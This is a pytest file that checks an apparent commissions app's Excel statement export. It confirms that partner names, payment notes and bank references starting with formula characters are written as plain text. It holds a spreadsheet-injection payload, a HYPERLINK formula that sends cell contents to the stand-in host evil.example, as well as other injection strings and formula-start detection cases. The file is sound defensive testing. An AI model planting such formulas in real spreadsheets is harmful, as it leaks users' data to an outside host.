"""Issue #10 finding 5: a statement's Excel file carries no live formula (R-IMP-5), whatever a
partner's name, a project's title or a bank reference begins with."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from huoban import clock
from huoban.commissions import ledger
from huoban.commissions.models import LedgerEntry
from huoban.commissions.statements import build_statement, render_xlsx
from huoban.core.spreadsheets import looks_like_formula
from tests.projects.helpers import TODAY, ensure_policy_v1, pay, sign

HOSTILE_REF = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.fixture(autouse=True)
def _today(db):
    ensure_policy_v1()
    with clock.frozen(TODAY):
        yield


def test_hostile_texts_are_written_as_text(actors):
    actors.alpha.name = "=1+1"
    actors.alpha.save(update_fields=["name"])
    project = sign(actors.officer, actors.alpha)
    pay(actors.finance, project, "100000.00", dt.date(2026, 1, 15), "@SUM(1,2)")
    entry = LedgerEntry.objects.get(project=project)
    ledger.approve_entry(entry.pk, actor=actors.finance)
    ledger.create_payout(
        actors.alpha,
        actor=actors.finance,
        bank_reference=HOSTILE_REF,
        paid_on=dt.date(2026, 2, 10),
        entry_ids=[entry.pk],
    )
    data = render_xlsx(build_statement(actors.alpha, 2026, 6))  # all booked in June
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element at all
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    values = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert HOSTILE_REF in values  # shown as typed
    assert all(
        c.data_type == "s" for row in sheet.iter_rows() for c in row if isinstance(c.value, str)
    )
    marked = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE_REF]
    assert marked and all(c.quotePrefix for c in marked)


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\tx", "＝1", "－1", "−1"])
def test_formula_starts(text):
    assert looks_like_formula(text)


@pytest.mark.parametrize("text", ["东义集团", "1+1", "BANK-0210", ""])
def test_plain_texts(text):
    assert not looks_like_formula(text)
